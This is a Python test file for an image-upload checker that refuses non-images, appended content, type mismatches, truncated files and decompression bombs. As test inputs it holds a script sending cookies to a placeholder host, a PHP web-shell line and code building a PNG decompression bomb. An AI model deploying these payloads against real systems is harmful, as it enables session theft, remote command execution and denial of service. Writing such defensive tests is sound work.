"""The whole-image check shared by the hot folders and the blob upload (issue 36): an
acta image of each accepted type passes untouched; a non-image, a file with anything
pasted after the image's end, a type other than the declared one, a file cut short and
a decompression bomb are refused, each with its motivo and a Spanish sentence."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image

from prep.catalog import Catalog
from prep.image_check import DATOS_ANEXOS
from prep.image_check import DEMASIADO_GRANDE
from prep.image_check import INCOMPLETA
from prep.image_check import JPEG
from prep.image_check import NO_DECODIFICA
from prep.image_check import PNG
from prep.image_check import TIFF
from prep.image_check import TIPO_NO_ADMITIDO
from prep.image_check import TIPO_NO_COINCIDE
from prep.image_check import ImageRejected
from prep.image_check import declared_by_name
from prep.image_check import verify_image
from prep.sintetico.acta_image import ActaImageOptions
from prep.sintetico.acta_image import render_acta_image
from tests.harness.images import padded_jpeg
from tests.harness.images import tiny_png

pytestmark = pytest.mark.rapido

HTML = b"<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>"


def _acta(catalog: Catalog, image_format: str = "JPEG", **options: object) -> bytes:
    acta = next(iter(catalog.iter_actas()))
    valores = {campo: 7 for campo in acta.layout.campos}
    return render_acta_image(acta, valores, ActaImageOptions(
        dpi=100, image_format=image_format, **options))  # type: ignore[arg-type]


def _tiff(compression: str | None) -> bytes:
    out = io.BytesIO()
    page = Image.new("L", (300, 400), 230)
    (page.convert("1") if compression == "group4" else page).save(
        out, "TIFF", compression=compression, dpi=(200, 200))
    return out.getvalue()


def _refused(data: bytes, declared: str | None = None) -> ImageRejected:
    with pytest.raises(ImageRejected) as refused:
        verify_image(data, declared=declared)
    return refused.value


def test_acta_images_of_every_accepted_type_pass_as_they_are(small: Catalog) -> None:
    photo = _acta(small, photo=True)
    for data, media_type in [(_acta(small), JPEG), (_acta(small, "PNG"), PNG), (photo, JPEG),
                             (_tiff(None), TIFF), (_tiff("tiff_lzw"), TIFF),
                             (_tiff("group4"), TIFF), (padded_jpeg(50_000), JPEG),
                             (tiny_png("x"), PNG)]:
        before = bytes(data)
        checked = verify_image(data, declared=media_type)
        assert checked.media_type == media_type and checked.page is None
        assert data == before
    kept = verify_image(photo, keep_page=True)
    assert kept.page is not None and kept.page.mode == "L"
    assert kept.page.size == (kept.width, kept.height)
    kept.page.close()


def test_the_85_byte_non_image_is_refused() -> None:
    data = b"\x89PNG\r\n\x1a\n" + b"<?php system($_GET['c']); ?>" + bytes(49)
    assert len(data) == 85
    assert _refused(data).motivo in (INCOMPLETA, NO_DECODIFICA)
    refused = _refused(b"GIF89a" + bytes(79))
    assert refused.motivo == TIPO_NO_ADMITIDO
    assert refused.mensaje == "El archivo no es una imagen JPEG, PNG ni TIFF."


@pytest.mark.parametrize("image_format", ["JPEG", "PNG"])
def test_anything_after_the_end_marker_is_refused(small: Catalog, image_format: str) -> None:
    data = _acta(small, image_format)
    for tail in (HTML, b"\x00", b"\xff\xd9"):
        refused = _refused(data + tail)
        assert refused.motivo == DATOS_ANEXOS
        assert f"trae {len(tail):,} bytes de otro contenido pegados después de su fin" in \
            refused.mensaje


def test_a_tiff_with_a_tail_or_cut_short_is_refused() -> None:
    for compression in (None, "tiff_lzw"):
        data = _tiff(compression)
        assert _refused(data + HTML).motivo == DATOS_ANEXOS
        assert _refused(data[:-50]).motivo == INCOMPLETA


def test_the_declared_type_must_be_the_real_one(small: Catalog) -> None:
    jpeg = _acta(small)
    refused = _refused(jpeg, PNG)
    assert refused.motivo == TIPO_NO_COINCIDE
    assert refused.mensaje == ("El archivo se presenta como una imagen PNG pero su "
                               "contenido es JPEG.")
    assert "«image/gif»" in _refused(jpeg, "image/gif").mensaje
    assert _refused(jpeg, declared_by_name("acta.html")).motivo == TIPO_NO_COINCIDE
    assert verify_image(jpeg, declared=declared_by_name("ACTA.JPEG")).media_type == JPEG
    assert declared_by_name("sin-extension") is None


def test_cut_short_or_corrupted_files_are_refused(small: Catalog) -> None:
    png = _acta(small, "PNG")
    assert _refused(png[:len(png) // 2]).motivo == INCOMPLETA
    jpeg = _acta(small)
    assert _refused(jpeg[:len(jpeg) // 2]).motivo == INCOMPLETA
    flipped = bytearray(png)
    flipped[len(png) // 2] ^= 0xFF  # inside an IDAT chunk: its CRC no longer matches
    assert _refused(bytes(flipped)).motivo == NO_DECODIFICA


def test_a_decompression_bomb_is_refused_before_decoding() -> None:
    """A 20,000 × 20,000 PNG (400 Mpx, 400 MB decoded) is refused from its header."""
    width = height = 20_000
    row = b"\x00" + bytes(width)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body))
    bomb = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height,
                                                              8, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
    assert len(bomb) < 1_000_000
    refused = _refused(bomb)
    assert refused.motivo == DEMASIADO_GRANDE and "millones de píxeles" in refused.mensaje
